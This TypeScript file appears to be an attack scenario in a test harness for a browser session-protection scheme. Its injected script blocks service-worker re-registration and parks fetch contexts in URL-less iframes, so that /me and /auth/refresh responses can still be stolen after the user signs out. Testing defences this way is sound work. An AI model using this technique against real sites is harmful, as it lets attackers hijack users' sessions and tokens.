import { attack } from "../attack.js";

const unregisteredVault = attack({
  name: "keeps an unregistered vault alive in a frame to outlive the sign-out",
  threat: "persistent theft",
  target: "strongroom",
  leavesWorkers: true,
  hook() {
    // The app must not notice that its worker is gone: it would navigate away for a new session and end the payload.
    ServiceWorkerContainer.prototype.register = () => new Promise(() => {});
  },
  async payload(it) {
    const own = globalThis as { vaults?: (typeof globalThis)[] };
    if (!own.vaults) {
      // The next vault claims documents by their URL. These have no URL of their own.
      const frames = [
        "about:blank",
        "javascript:void 0",
        URL.createObjectURL(new Blob([""], { type: "text/html" })),
      ];
      own.vaults = [globalThis];
      for (const src of frames) {
        const frame = document.createElement("iframe");
        frame.src = src;
        document.body.append(frame);
        await it.pause(200);
        try {
          const inside = frame.contentWindow as unknown as typeof globalThis;
          await inside.fetch("/auth/events");
          own.vaults.push(inside);
        } catch {
          // The policy refuses the frame.
        }
      }
      await fetch("/auth/events");
      for (const registration of await navigator.serviceWorker.getRegistrations())
        await registration.unregister();
      return;
    }
    for (const vault of own.vaults) {
      it.steal(await (await vault.fetch(`${it.apiUrl}me`).catch(() => undefined))?.text());
      it.steal(await (await vault.fetch("/auth/refresh", { method: "POST" }).catch(() => undefined))?.text());
      it.steal(await (await vault.fetch(`${it.apiUrl}me`).catch(() => undefined))?.text());
    }
  },
  async play(stage) {
    stage.hook([]);
    await stage.openSignedIn();
    stage.hook([unregisteredVault]);
    await stage.openUnconnected();
    await stage.inject();
    await stage.closeThisTab(await stage.signOutInAnotherWindow());
    await stage.inject();
  },
  gain: async (stage) => stage.requestAsTheUser(),
});

export default unregisteredVault;
